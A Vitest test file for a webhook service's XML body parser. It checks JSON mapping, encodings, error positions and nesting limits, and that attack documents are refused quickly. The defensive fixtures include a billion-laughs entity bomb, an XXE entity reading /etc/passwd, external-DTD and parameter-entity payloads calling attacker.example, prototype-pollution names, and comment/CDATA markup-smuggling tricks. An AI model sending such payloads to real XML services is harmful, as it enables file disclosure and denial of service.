import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isHookdError } from '../../src/core/errors.js';
import { DEFAULT_PARSERS, parserFor } from '../../src/ingress/parsers/index.js';
import { parseMediaType } from '../../src/ingress/parsers/media-type.js';
import { parseXml } from '../../src/ingress/parsers/xml.js';
import { type ParserServer, post, startParserServer } from './parsers-harness.js';

let srv: ParserServer;
beforeAll(async () => {
  srv = await startParserServer({ payloadSizeLimit: 1024 * 1024 });
});
afterAll(() => srv.close());

const xml = (body: string | Buffer, type = 'application/xml') => post(srv.url, { 'content-type': type }, body);
const parse = (s: string, type = 'application/xml') => parseXml(Buffer.from(s), parseMediaType(type));
function reason(fn: () => unknown): string {
  try {
    fn();
  } catch (err) {
    if (isHookdError(err) && err.statusCode === 400) return err.message;
    throw err;
  }
  throw new Error('no error');
}

describe('XML payloads', () => {
  it('wins over the text/* parser for text/xml, and takes application/xml and +xml types', () => {
    for (const t of ['application/xml', 'text/xml', 'application/atom+xml', 'application/soap+xml; charset=utf-8']) {
      expect(parserFor(parseMediaType(t), DEFAULT_PARSERS).name).toBe('xml');
    }
    expect(parserFor(parseMediaType('text/plain'), DEFAULT_PARSERS).name).toBe('text');
  });

  it('maps XML to JSON as documented (over HTTP)', async () => {
    const doc = `<?xml version="1.0" encoding="UTF-8"?>
<!-- a comment -->
<order id="7" xmlns:x="urn:x">
  <item sku="a">1</item>
  <item>2</item>
  <note>a &amp; b &lt;c&gt; &#65;&#x42; &quot;q&quot;</note>
  <empty/>
  <x:n>007</x:n>
  <flag>true</flag>
  <c><![CDATA[<raw> & stuff]]></c>
  <only a="1"/>
</order>`;
    const res = await xml(doc);
    expect(res.status).toBe(200);
    expect(res.body.body).toEqual({
      order: {
        '@_id': '7',
        '@_xmlns:x': 'urn:x',
        item: [{ '@_sku': 'a', '#text': '1' }, '2'],
        note: 'a & b <c> AB "q"',
        empty: '',
        'x:n': '007',
        flag: 'true',
        c: '<raw> & stuff',
        only: { '@_a': '1' },
      },
    });
  });

  it('a single element stays an object; repeated ones are an array', () => {
    expect(parse('<a><b>1</b></a>')).toEqual({ a: { b: '1' } });
    expect(parse('<a><b>1</b><b>2</b><b>3</b></a>')).toEqual({ a: { b: ['1', '2', '3'] } });
  });

  it('element names that clash with object internals are prefixed, never reach the prototype', () => {
    const out = parse('<a><__proto__><polluted>yes</polluted></__proto__><constructor>c</constructor><toString>t</toString></a>') as any;
    expect(out.a.____proto__).toEqual({ polluted: 'yes' });
    expect(out.a.__constructor).toBe('c');
    expect(out.a.__toString).toBe('t');
    expect(({} as any).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(out.a)).toBe(Object.prototype);
  });

  it('honours the charset parameter and the declared encoding', async () => {
    const latin1 = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><n>caf\xe9</n>', 'latin1');
    expect((await xml(latin1)).body.body).toEqual({ n: 'café' });
    const param = Buffer.from('<n>caf\xe9</n>', 'latin1');
    expect((await xml(param, 'text/xml; charset=iso-8859-1')).body.body).toEqual({ n: 'café' });
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<n>ü</n>', 'utf16le')]);
    expect((await xml(utf16)).body.body).toEqual({ n: 'ü' });
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<n>ok</n>')]);
    expect((await xml(bom)).body.body).toEqual({ n: 'ok' });
  });

  it('invalid XML → 400 whose message has line and column', async () => {
    const res = await xml('<a>\n  <b>text</b>\n  <c></a>');
    expect(res.status).toBe(400);
    expect(res.body.code).toBe('INVALID_BODY');
    expect(res.body.message).toMatch(/^Invalid XML body: .*line 3, column \d+/);
    expect(reason(() => parse('<a attr=unquoted/>'))).toMatch(/line 1, column \d+/);
    expect(reason(() => parse('<a>'))).toMatch(/Unclosed tag 'a'.*line 1, column 1/);
    expect(reason(() => parse('plain text'))).toMatch(/line 1/);
    expect((await xml('')).status).toBe(200); // no bytes is no body, as everywhere (payloads.md)
    expect(reason(() => parse('<a/><b/>'))).toMatch(/exactly one root element/);
    expect(reason(() => parse('<a/><a/>'))).toMatch(/exactly one root element/);
    expect(reason(() => parse('<?xml version="1.0"?><!-- nothing -->'))).toMatch(/Invalid XML body/);
  });

  it('nesting: 100 levels parse, 101 are refused', () => {
    const nest = (n: number) => '<a>'.repeat(n) + 'x' + '</a>'.repeat(n);
    expect(() => parse(nest(100))).not.toThrow();
    expect(reason(() => parse(nest(101)))).toMatch(/nested deeper than 100/);
  });

  it('over PAYLOAD_SIZE_LIMIT → 413', async () => {
    const res = await xml(`<a>${'x'.repeat(1024 * 1024)}</a>`);
    expect(res.status).toBe(413);
  });
});

describe('XML attack documents are refused fast (< 100 ms)', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>`;
  const cases: Array<[string, string, RegExp]> = [
    ['billion laughs', billionLaughs, /DOCTYPE is not allowed.*line 2, column 1/],
    ['external entity (XXE)', '<?xml version="1.0"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<foo>&xxe;</foo>', /DOCTYPE is not allowed/],
    ['external DTD', '<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>', /DOCTYPE is not allowed/],
    ['parameter entity', '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/x">%p;]><d/>', /DOCTYPE is not allowed/],
    ['lower-case / spaced doctype', '<! doctype foo><foo/>', /DOCTYPE is not allowed/],
    ['bare entity declaration', '<a><!ENTITY x "y"></a>', /ENTITY is not allowed/],
    ['deep nesting (100,000 levels)', '<a>'.repeat(100_000) + '</a>'.repeat(100_000), /nested deeper than 100/],
    ['deep unclosed nesting (200,000 levels)', '<a>'.repeat(200_000), /nested deeper than 100/],
  ];
  for (const [name, doc, message] of cases) {
    it(name, async () => {
      await xml('<warm>up</warm>');
      const started = performance.now();
      const res = await xml(doc);
      const ms = performance.now() - started;
      expect(res.status).toBe(400);
      expect(res.body.message).toMatch(message);
      expect(ms).toBeLessThan(100);
      expect(srv.last()!.ms).toBeLessThan(100);
    });
  }

  it('the words inside a comment or CDATA are text, not a DTD: HTML mail in CDATA parses', () => {
    expect(parse('<mail><html><![CDATA[<!DOCTYPE html><html><body>Hi</body></html>]]></html></mail>')).toEqual({
      mail: { html: '<!DOCTYPE html><html><body>Hi</body></html>' },
    });
    expect(parse('<a><!-- <!ENTITY is mentioned here --><b>1</b></a>')).toEqual({ a: { b: '1' } });
    // Markup after them still counts.
    expect(reason(() => parse('<!-- c --><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'))).toMatch(/DOCTYPE is not allowed/);
    expect(reason(() => parse('<a><![CDATA[x]]><!ENTITY y "z"></a>'))).toMatch(/ENTITY is not allowed/);
    // A `<!--` that is no comment (inside a processing instruction, an attribute value) hides nothing.
    expect(reason(() => parse('<?a <!-- ?><!DOCTYPE r [<!ENTITY x "EXPANDED">]><?b --> ?><r>&x;</r>'))).toMatch(/DOCTYPE is not allowed/);
    expect(reason(() => parse('<r a="<!--"><!DOCTYPE r [<!ENTITY x "E">]><b c="-->"/>&x;</r>'))).toMatch(/'<' in an attribute value/);
    expect(reason(() => parse("<r a='>'><!ELEMENT r ANY></r>"))).toMatch(/ELEMENT is not allowed/);
    // Quotes that the parser reads differently (in a PI, in a closing tag) cannot hide markup either.
    expect(reason(() => parse(`<?pi "?><r b='"?><!DOCTYPE r [<!ENTITY e "X">]><r>&e;</r><!--'>x</r><!-- -->`))).toMatch(/'<' in an attribute value/);
    expect(reason(() => parse(`<r></r '><!DOCTYPE r [<!ENTITY e "boom">]><r>&e;</r>'>`))).toMatch(/'<' in an attribute value/);
    // Left open: refused before the parser sees it.
    expect(reason(() => parse('<r><!-- <!DOCTYPE r [<!ENTITY x "E">]><b>&x;</b></r>'))).toMatch(/comment is not closed/);
    expect(reason(() => parse('<r a="x><!DOCTYPE r></r>'))).toMatch(/'<' in an attribute value/);
    expect(reason(() => parse('<r a="x>'))).toMatch(/attribute value is not closed/);
    // Linear: 100,000 attributes before 5 MB of text (it once searched the text for every one: 7.6 s).
    // The DOCTYPE at the end makes the scan go through it all and refuse before any parse.
    const many = `<r${' a=""'.repeat(100_000)}>${'x'.repeat(5_000_000)}<!DOCTYPE r></r>`;
    const t0 = performance.now();
    expect(reason(() => parse(many))).toMatch(/DOCTYPE is not allowed/);
    expect(performance.now() - t0).toBeLessThan(1_500);
    expect(reason(() => parse('<r a="x" <b/>></r>'))).toMatch(/'<' inside a tag/);
    // Ordinary documents: attributes with > and quotes, PIs, comments.
    expect(parse(`<?xml version="1.0"?><!-- hi --><r a="1 > 0" b='"q"'><?pi data?><c/></r>`)).toEqual({ r: { '@_a': '1 > 0', '@_b': '"q"', c: '' } });
  });

  it('the same documents are refused by the parser function itself (no entity is ever expanded)', () => {
    expect(reason(() => parse(billionLaughs))).toMatch(/DOCTYPE/);
    expect(reason(() => parse('<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'))).toMatch(/DOCTYPE/);
    // Without a DTD an undeclared entity is not expanded into anything.
    let out: unknown;
    try {
      out = parse('<a>&e;</a>');
    } catch {
      out = 'refused';
    }
    expect(out === 'refused' || JSON.stringify(out) === JSON.stringify({ a: '&e;' })).toBe(true);
  });
});
